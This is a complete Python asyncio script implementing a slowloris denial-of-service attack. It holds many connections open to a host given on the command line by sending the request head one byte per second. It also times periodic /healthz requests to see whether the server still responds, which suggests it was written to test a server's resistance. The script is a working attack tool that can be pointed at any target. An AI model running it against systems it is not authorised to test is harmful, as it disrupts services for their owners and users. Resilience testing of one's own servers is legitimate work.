# N connections each trickling a request head one byte a second; meanwhile a normal request
# every 2 s, timed. Usage: slowloris.py HOST:PORT N
import asyncio, sys, time
host, port = sys.argv[1].split(":"); port = int(port); n = int(sys.argv[2])
HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "
closed = 0; opened = 0
async def slow():
    global closed, opened
    try:
        r, w = await asyncio.open_connection(host, port)
    except OSError:
        closed += 1; return
    opened += 1
    k = 0
    while True:
        try:
            w.write(HEAD[k:k+1] or b"a"); await w.drain()
        except OSError:
            break
        k += 1
        try:
            await asyncio.wait_for(r.read(256), 1.0)
            break
        except asyncio.TimeoutError:
            continue
        except OSError:
            break
    closed += 1
async def normal(i, t0):
    t = time.time()
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port), 60)
        w.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"); await w.drain()
        line = await asyncio.wait_for(r.readline(), 60)
        w.close()
        res = line.decode().strip() or "closed without an answer"
    except Exception as e:
        res = type(e).__name__
    print(f"t={t-t0:5.1f}s normal request {i}: {res!r} in {time.time()-t:.2f} s; slow connections opened {opened}, closed {closed}", flush=True)
async def main():
    t0 = time.time()
    tasks = [asyncio.create_task(slow()) for _ in range(n)]
    await asyncio.sleep(2)
    for i in range(int(sys.argv[3]) if len(sys.argv) > 3 else 10):
        await normal(i, t0)
        await asyncio.sleep(2)
    print(f"t={time.time()-t0:5.1f}s slow connections closed by the server: {closed} of {n}")
asyncio.run(main())
